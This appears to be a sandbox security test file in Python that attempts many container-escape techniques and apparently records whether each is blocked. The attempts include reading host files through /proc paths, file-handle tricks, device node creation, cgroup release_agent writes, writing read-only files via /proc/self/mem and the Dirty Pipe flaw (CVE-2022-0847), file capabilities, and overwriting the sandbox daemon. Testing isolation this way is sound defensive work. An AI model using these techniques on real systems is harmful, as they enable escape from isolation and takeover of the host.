"""Files that are not the sandbox's own."""

import ctypes
import fcntl
import mmap
import os
import stat
import struct
import subprocess
import time
from functools import partial
from pathlib import Path

from tests.security.attempts.trying import Tries, call, main, pids, put, quietly, reach


def see(tries: Tries, secret: str) -> None:
    """A file of the host, by every path that might lead there."""
    roots = ["", "/..", "/proc/1/root", "/proc/1/cwd/" + "../" * 20, "/proc/self/root/" + "../" * 20, "/../" * 20]
    roots += ["/proc/thread-self/root", "/mnt", "/host", "/rootfs", "/sys/kernel/../../..", "/dev/fd/../../.."]
    for root in roots:
        tries(f"{root} secret", Path(root + secret).read_bytes)


def handles(tries: Tries) -> None:
    """A file by its number, past all paths: the root of the disk below is number 2, or 128 on another kind."""
    for place in ("/", "/workspace", "/usr"):
        folder = os.open(place, os.O_RDONLY)
        for number in (2, 128):
            handle = struct.pack("IiII", 8, 1, number, 0)
            tries(f"{place} {number}", call, "open_by_handle_at", folder, handle, os.O_RDONLY)
        answer, mount = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136), ctypes.create_string_buffer(4)
        tries(f"{place} name", call, "name_to_handle_at", folder, b"", answer, mount, 4096)


def descriptors(tries: Tries) -> None:
    """What was left open by those who started this program, beside the three that are meant."""
    for fd in range(3, 4096):
        tries(f"{fd}", os.fstat, fd)
    for fd in range(3):
        tries(f"up from {fd}", partial(os.open, "..", os.O_RDONLY, dir_fd=fd))


def devices(tries: Tries) -> None:
    nodes = {
        "memory": (1, 1),
        "log": (1, 11),
        "disk": (8, 0),
        "virtual disk": (254, 0),
        "loop": (7, 0),
        "kvm": (10, 232),
    }
    for name, (major, minor) in nodes.items():
        for kind in (stat.S_IFCHR, stat.S_IFBLK):
            number, path = os.makedev(major, minor), f"/tmp/{name}-{kind}"
            tries(f"make {name} {kind:o}", os.mknod, path, kind | 0o666, number)
    for name in ("mem", "kmem", "port", "kmsg", "sda", "vda", "fuse", "kvm", "loop-control", "hpet", "nvidia0", "dri"):
        tries(f"open {name}", reach, f"/dev/{name}", os.O_RDWR)


def settings(tries: Tries, *paths: str) -> None:
    """Write what is there already, back to where it stands: where that worked, so would anything else."""
    for path in paths:
        tries(path, _write_back, path)


def _write_back(path: str) -> None:
    if not Path(path).exists():
        raise FileNotFoundError(2, path)
    fd = os.open(path, os.O_RDWR)
    os.write(fd, os.read(fd, 4096) or b"\n")
    os.close(fd)


def groups(tries: Tries) -> None:
    """Raise the bounds, leave the control group, or have the kernel run a program when one is empty."""
    tries("mount", call, "mount", b"none", b"/tmp", b"cgroup", 0, b"memory")
    tries("own group", Path("/sys/fs/cgroup/escaped").mkdir)
    names = (
        "release_agent",
        "notify_on_release",
        "cgroup.procs",
        "tasks",
        "memory.max",
        "pids.max",
        "memory.limit_in_bytes",
    )
    found = [Path(folder, name) for folder, _, files in os.walk("/sys/fs/cgroup") for name in names if name in files]
    for path in found:
        tries(str(path), put, str(path), "0")


def pages(tries: Tries, *paths: str) -> None:
    """Files that are only to be read, by the memory they are kept in."""
    for path in paths:
        file = os.open(path, os.O_RDONLY)
        tries(f"shared {path}", mmap.mmap, file, 1, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
        tries(f"by memory {path}", _write_by_memory, file)
        tries(f"spliced {path}", _write_by_pipe, file)
        tries(f"again {path}", os.open, f"/proc/self/fd/{file}", os.O_RDWR)
        tries(f"mode {path}", os.fchmod, file, 0o777)
        tries(f"link {path}", os.link, path, "/workspace/linked")
        tries(f"lease {path}", fcntl.fcntl, file, fcntl.F_SETLEASE, fcntl.F_WRLCK)


def _write_by_memory(file: int) -> None:
    """Past the protection of a page, as debuggers do."""
    room = mmap.mmap(file, 1, mmap.MAP_SHARED, mmap.PROT_READ)
    # Of what this process has mapped, only this is shared and a file.
    lines = Path("/proc/self/maps").read_text().splitlines()
    start = next(line.partition("-")[0] for line in lines if " r--s " in line)
    with Path("/proc/self/mem").open("r+b", buffering=0) as memory:
        memory.seek(int(start, 16))
        memory.write(b"escaped")
    room.close()


def _write_by_pipe(file: int) -> None:
    """A page that is in a pipe, made longer there (CVE-2022-0847)."""
    reader, writer = os.pipe()
    size = fcntl.fcntl(writer, 1032)
    for _ in range(size // 4096):
        os.write(writer, bytes(4096))
    for _ in range(size // 4096):
        os.read(reader, 4096)
    before = os.pread(file, 8, 0)
    os.splice(file, writer, 1, offset_src=0)
    os.write(writer, b"escaped")
    if os.pread(file, 8, 0) == before:
        raise PermissionError(1, "as it was")


def superuser(tries: Tries) -> None:
    """Rights that a file gives to whoever runs it."""
    own = Path("/workspace/own")
    own.touch()
    rights = struct.pack("<5I", 0x2000001, 0xFFFFFFFF, 0, 0, 0)
    tries("attribute", os.setxattr, own, "security.capability", rights)
    for name in ("su", "mount", "passwd", "newgrp", "chsh"):
        tries(name, _rights_of, f"/usr/bin/{name}")


def _rights_of(program: str) -> None:
    """Read while it runs who it runs as."""
    reader, writer = os.pipe()
    with subprocess.Popen([program], stdin=reader, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
        status = Path(f"/proc/{process.pid}/status").read_text()
        process.kill()
    os.close(reader)
    os.close(writer)
    if "\nUid:\t0" not in status and "\t0\t" not in status.split("Uid:")[1].split("\n")[0]:
        raise PermissionError(1, "it runs as whoever started it")


def overwrite(tries: Tries, duration_s: str) -> None:
    """Replace sandboxd: the first process's program, and those that file calls become for a moment."""
    for path in ("/proc/1/exe", "/sandboxd", "/sandboxd/sandboxd", "/run/sandboxd/socket"):
        tries(path, reach, path, os.O_WRONLY)
    tries("in its place", Path("/workspace").rename, "/sandboxd")
    tries("socket", Path("/run/sandboxd/socket").unlink)
    end, mine = time.monotonic() + float(duration_s), {*pids()}
    num_seen = 0
    while time.monotonic() < end:
        for pid in {*pids()} - mine:
            num_seen += 1
            for flags in (os.O_WRONLY, os.O_RDWR | os.O_TRUNC):
                quietly(_replace, f"/proc/{pid}/exe", flags)
    tries("seen", _any, num_seen)


def _replace(path: str, flags: int) -> None:
    os.write(os.open(path, flags), b"escaped")


def _any(number: int) -> None:
    if not number:
        raise ProcessLookupError(3, "none was seen")


if __name__ == "__main__":
    main(globals())
